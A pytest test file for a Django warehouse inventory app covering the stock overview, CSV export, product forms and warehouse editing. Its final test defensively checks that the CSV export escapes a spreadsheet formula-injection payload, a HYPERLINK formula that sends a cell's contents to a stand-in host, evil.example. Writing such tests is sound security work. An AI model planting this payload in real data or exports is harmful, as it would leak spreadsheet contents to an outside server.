"""The warehouse screens: stock overview, product page with its forms, product create/edit,
warehouses. (Imports: test_imports.py; who may see what: tests/test_permissions.py.)"""

import csv
import io
from datetime import date, timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from inventory.models import Product, StockLevel, StockMovement, Warehouse
from tests.factories.inventory import ExpectedReceiptFactory, ProductFactory, WarehouseFactory, level, stock

pytestmark = pytest.mark.django_db
HTMX = {"HTTP_HX_REQUEST": "true"}
STOCK = reverse("inventory:stock")


@pytest.fixture
def ams():
    return WarehouseFactory(code="AMS", name="Amsterdam", priority=10)


@pytest.fixture
def rtm():
    return WarehouseFactory(code="RTM", name="Rotterdam", priority=20)


@pytest.fixture
def warehouse_client(role_client):
    return role_client("warehouse")


def skus(response) -> list[str]:
    import re

    return re.findall(r'data-testid="stock-row">\s*<td><a href="[^"]+">([^<]+)</a>', response.content.decode())


# --- stock overview -----------------------------------------------------------------------------


def test_stock_overview_full_page_and_htmx_fragment(warehouse_client, ams):
    ProductFactory(sku="MUG-RED", name="Red mug")
    page = warehouse_client.get(STOCK)
    assert page.status_code == 200 and b"<html" in page.content and b'id="stock-table"' in page.content
    fragment = warehouse_client.get(STOCK, **HTMX)
    assert b"<html" not in fragment.content and b'id="stock-table"' in fragment.content
    assert "MUG-RED" in fragment.content.decode()
    assert fragment["Vary"] and "HX-Request" in fragment["Vary"]


def test_stock_overview_searches_sku_prefix_name_words_and_barcode(warehouse_client, ams):
    ProductFactory(sku="MUG-RED", name="Red enamel mug")
    ProductFactory(sku="MUG-BLUE", name="Blue mug", barcode="8712345678906")
    ProductFactory(sku="PLATE-1", name="Enamel plate red rim")
    assert skus(warehouse_client.get(STOCK, {"q": "mug-"}, **HTMX)) == ["MUG-BLUE", "MUG-RED"]
    assert skus(warehouse_client.get(STOCK, {"q": "red ENAMEL"}, **HTMX)) == ["MUG-RED", "PLATE-1"]
    assert skus(warehouse_client.get(STOCK, {"q": "8712345678906"}, **HTMX)) == ["MUG-BLUE"]


def test_stock_overview_filters_low_out_reserved_and_warehouse(warehouse_client, ams, rtm):
    # given: A is fine, B is low in AMS, C has a reservation, everything else is out of stock
    a, b, c = ProductFactory(sku="A"), ProductFactory(sku="B"), ProductFactory(sku="C")
    stock(a, ams, 50, reorder_point=5)
    stock(b, ams, 3, reorder_point=5)
    stock(c, rtm, 10, reserved=2)
    # then
    get = lambda **q: skus(warehouse_client.get(STOCK, q, **HTMX))  # noqa: E731
    assert get(status="low") == ["B"]
    assert get(status="out") == ["A", "B", "C"]  # the RTM rows of A and B, the AMS row of C
    assert get(status="reserved") == ["C"]
    assert get(warehouse=str(ams.pk), status="out") == ["C"]
    body = warehouse_client.get(STOCK, {"q": "B", "warehouse": str(ams.pk)}, **HTMX).content.decode()
    assert 'class="row-low"' in body


def test_stock_overview_sorts_by_a_column_both_ways(warehouse_client, ams):
    for sku, quantity in [("A", 5), ("B", 9), ("C", 1)]:
        stock(ProductFactory(sku=sku), ams, quantity)
    assert skus(warehouse_client.get(STOCK, {"sort": "-available"}, **HTMX)) == ["B", "A", "C"]
    assert skus(warehouse_client.get(STOCK, {"sort": "available"}, **HTMX)) == ["C", "A", "B"]
    assert skus(warehouse_client.get(STOCK, {"sort": "nonsense"}, **HTMX)) == ["A", "B", "C"]


def test_stock_overview_pages_without_counting_and_keeps_filters_in_the_links(warehouse_client, ams):
    for n in range(55):
        ProductFactory(sku=f"P{n:03d}")
    with CaptureQueriesContext(connection) as captured:
        first = warehouse_client.get(STOCK, {"q": "P"}, **HTMX)
    body = first.content.decode()
    assert len(skus(first)) == 50 and "page=2" in body and "q=P" in body
    sql = " ".join(q["sql"] for q in captured.captured_queries)
    assert "inventory_stocklevel" in sql and "COUNT(" not in sql.upper()
    assert skus(warehouse_client.get(STOCK, {"q": "P", "page": "2"}, **HTMX)) == [f"P{n:03d}" for n in range(50, 55)]
    # the 30-second refresh asks for the same filter and page
    assert 'hx-trigger="every 30s"' in body and "q=P" in body


def test_stock_overview_queries_do_not_grow_with_the_rows_shown(warehouse_client, ams, rtm):
    def queries_for_page() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert warehouse_client.get(STOCK, **HTMX).status_code == 200
        return len(captured)

    product = ProductFactory()
    ExpectedReceiptFactory(product=product, warehouse=ams)
    few = queries_for_page()
    for _ in range(24):
        ExpectedReceiptFactory(product=ProductFactory(), warehouse=rtm)
    assert queries_for_page() == few


def test_stock_overview_shows_incoming_stock(warehouse_client, ams):
    product = ProductFactory(sku="INC")
    day = date.today() + timedelta(days=3)
    ExpectedReceiptFactory(product=product, warehouse=ams, quantity=40, expected_date=day)
    body = warehouse_client.get(STOCK, {"q": "INC", "warehouse": str(ams.pk)}, **HTMX).content.decode()
    assert ">40 <" in body and day.strftime("%d-%m") in body


def test_stock_export_streams_the_filtered_view_as_csv(warehouse_client, ams):
    stock(ProductFactory(sku="A", name="Alpha"), ams, 3, reorder_point=5)
    stock(ProductFactory(sku="B", name="Beta"), ams, 30, reorder_point=5)
    response = warehouse_client.get(reverse("inventory:stock_export"), {"status": "low"})
    assert response["Content-Type"].startswith("text/csv")
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines == [
        "sku,name,warehouse,on_hand,reserved,available,reorder_point,reorder_quantity",
        "A,Alpha,AMS,3,0,3,5,10",
    ]


# --- product page -------------------------------------------------------------------------------


def test_product_detail_shows_levels_incoming_and_history(warehouse_client, ams, rtm):
    product = ProductFactory(sku="MUG", name="Mug")
    stock(product, ams, 7)
    ExpectedReceiptFactory(product=product, warehouse=rtm, quantity=12, reference="PO-000042")
    body = warehouse_client.get(reverse("inventory:product_detail", args=["MUG"])).content.decode()
    assert 'data-testid="level-AMS"' in body and 'data-testid="level-RTM"' in body
    assert "PO-000042" in body and "test stock" in body
    assert warehouse_client.get(reverse("inventory:product_detail", args=["NOPE"])).status_code == 404


def test_product_detail_history_is_paginated_as_a_fragment(warehouse_client, ams):
    product = ProductFactory(sku="MUG")
    for _ in range(30):
        stock(product, ams, 1)
    url = reverse("inventory:product_detail", args=["MUG"])
    first = warehouse_client.get(url, HTTP_HX_TARGET="movement-history", **HTMX).content.decode()
    assert "<html" not in first and first.count('data-testid="movement"') == 25 and "page=2" in first
    second = warehouse_client.get(url, {"page": "2"}, HTTP_HX_TARGET="movement-history", **HTMX)
    assert second.content.decode().count('data-testid="movement"') == 5


def test_stock_adjust_from_the_product_page_updates_the_panel(warehouse_client, ams):
    product = ProductFactory(sku="MUG")
    stock(product, ams, 5)
    response = warehouse_client.post(
        reverse("inventory:stock_adjust", args=["MUG"]),
        {"adjust-warehouse": ams.pk, "adjust-delta": "-2", "adjust-reason": "damage", "adjust-reference": "broken"},
        **HTMX,
    )
    body = response.content.decode()
    assert response.status_code == 200 and "<html" not in body and 'id="stock-panel"' in body
    assert "stock-changed" in response["HX-Trigger"] and 'data-testid="saved"' in body
    assert level(product, ams).on_hand == 3
    assert StockMovement.objects.filter(product=product, reason="damage", reference="broken").exists()


def test_stock_count_below_reserved_shows_the_error_on_the_form(warehouse_client, ams):
    product = ProductFactory(sku="MUG")
    stock(product, ams, 10, reserved=4)
    response = warehouse_client.post(
        reverse("inventory:stock_count", args=["MUG"]), {"count-warehouse": ams.pk, "count-counted": "3"}, **HTMX
    )
    body = response.content.decode()
    assert response.status_code == 200 and "4 are reserved for orders" in body
    assert "HX-Trigger" not in response and level(product, ams).on_hand == 10


def test_stock_transfer_of_more_than_available_shows_the_error(warehouse_client, ams, rtm):
    product = ProductFactory(sku="MUG")
    stock(product, ams, 10, reserved=8)
    data = {"transfer-from_warehouse": ams.pk, "transfer-to_warehouse": rtm.pk, "transfer-quantity": "3"}
    response = warehouse_client.post(reverse("inventory:stock_transfer", args=["MUG"]), data, **HTMX)
    assert "Only 2 available to transfer" in response.content.decode()
    data["transfer-quantity"] = "2"
    response = warehouse_client.post(reverse("inventory:stock_transfer", args=["MUG"]), data)
    assert response.status_code == 302 and level(product, rtm).on_hand == 2


def test_stock_level_configure_sets_reorder_point_and_quantity(role_client, ams):
    product = ProductFactory(sku="MUG")
    lv = level(product, ams)
    url = reverse("inventory:stock_level_configure", args=[lv.pk])
    response = role_client("purchasing").post(url, {"reorder_point": "5", "reorder_quantity": "20"}, **HTMX)
    assert response.status_code == 200 and "Reorder settings of AMS saved" in response.content.decode()
    lv.refresh_from_db()
    assert (lv.reorder_point, lv.reorder_quantity) == (5, 20)
    bad = role_client("purchasing").post(url, {"reorder_point": "-1", "reorder_quantity": "2"}, **HTMX)
    assert "alert-danger" in bad.content.decode()


def test_readers_see_no_stock_forms(role_client, ams):
    ProductFactory(sku="MUG")
    body = role_client("customer_service").get(reverse("inventory:product_detail", args=["MUG"])).content.decode()
    assert 'id="adjust-form"' not in body and 'name="reorder_point"' not in body


# --- product create and edit --------------------------------------------------------------------


def test_product_create_makes_the_product_with_a_level_per_warehouse(warehouse_client, ams, rtm):
    data = {"sku": "NEW-1", "name": "New", "list_price": "4.50", "vat_category": "low", "weight_grams": "100"}
    response = warehouse_client.post(reverse("inventory:product_create"), data | {"active": "on"})
    assert response.status_code == 302 and response["Location"] == reverse("inventory:product_detail", args=["NEW-1"])
    product = Product.objects.get(sku="NEW-1")
    assert str(product.list_price) == "4.50" and product.vat_category == "low"
    assert StockLevel.objects.filter(product=product).count() == 2


def test_product_create_refuses_an_existing_sku_and_a_bad_barcode(warehouse_client, ams):
    ProductFactory(sku="OLD")
    data = {"sku": "OLD", "name": "x", "list_price": "1", "vat_category": "high", "weight_grams": "0"}
    assert "exists already" in warehouse_client.post(reverse("inventory:product_create"), data).content.decode()
    data.update(sku="NEW", barcode="8712345678900")
    body = warehouse_client.post(reverse("inventory:product_create"), data).content.decode()
    assert "Not a valid EAN-13 barcode" in body and not Product.objects.filter(sku="NEW").exists()


def test_product_edit_changes_fields_but_not_the_sku(warehouse_client, ams):
    ProductFactory(sku="MUG", name="Mug")
    data = {"sku": "HACK", "name": "Big mug", "list_price": "12.00", "vat_category": "high", "weight_grams": "400"}
    response = warehouse_client.post(reverse("inventory:product_edit", args=["MUG"]), data)
    assert response.status_code == 302
    product = Product.objects.get(sku="MUG")
    assert (product.name, str(product.list_price), product.active) == ("Big mug", "12.00", False)
    assert not Product.objects.filter(sku="HACK").exists()


# --- warehouses ---------------------------------------------------------------------------------


def test_warehouse_create_and_edit(warehouse_client, ams):
    ProductFactory()
    data = {"code": "utr", "name": "Utrecht", "postal_code": "3511ab", "country": "NL", "cutoff_time": "16:30"}
    response = warehouse_client.post(reverse("inventory:warehouse_create"), data)
    assert response.status_code == 302
    utr = Warehouse.objects.get(code="UTR")
    assert (utr.postal_code, str(utr.cutoff_time), utr.priority) == ("3511 AB", "16:30:00", 20)
    assert StockLevel.objects.filter(warehouse=utr).count() == 1
    bad = warehouse_client.post(reverse("inventory:warehouse_edit", args=["UTR"]), data | {"postal_code": "35"})
    assert "A Dutch postcode looks like 1234 AB." in bad.content.decode()
    listing = warehouse_client.get(reverse("inventory:warehouses")).content.decode()
    assert "Utrecht" in listing and "16:30" in listing


def test_stock_overview_ignores_an_unreadable_filter_but_keeps_the_others(warehouse_client, ams):
    ProductFactory(sku="MUG")
    ProductFactory(sku="CUP")
    response = warehouse_client.get(STOCK, {"q": "mug", "warehouse": "abc", "page": "x"}, **HTMX)
    assert response.status_code == 200 and skus(response) == ["MUG"]


def test_stock_export_escapes_a_formula_in_a_product_name(warehouse_client, ams):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    stock(ProductFactory(sku="EVIL", name=evil), ams, 3)
    response = warehouse_client.get(reverse("inventory:stock_export"), {"q": "EVIL"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][:2] == ["EVIL", "'" + evil]
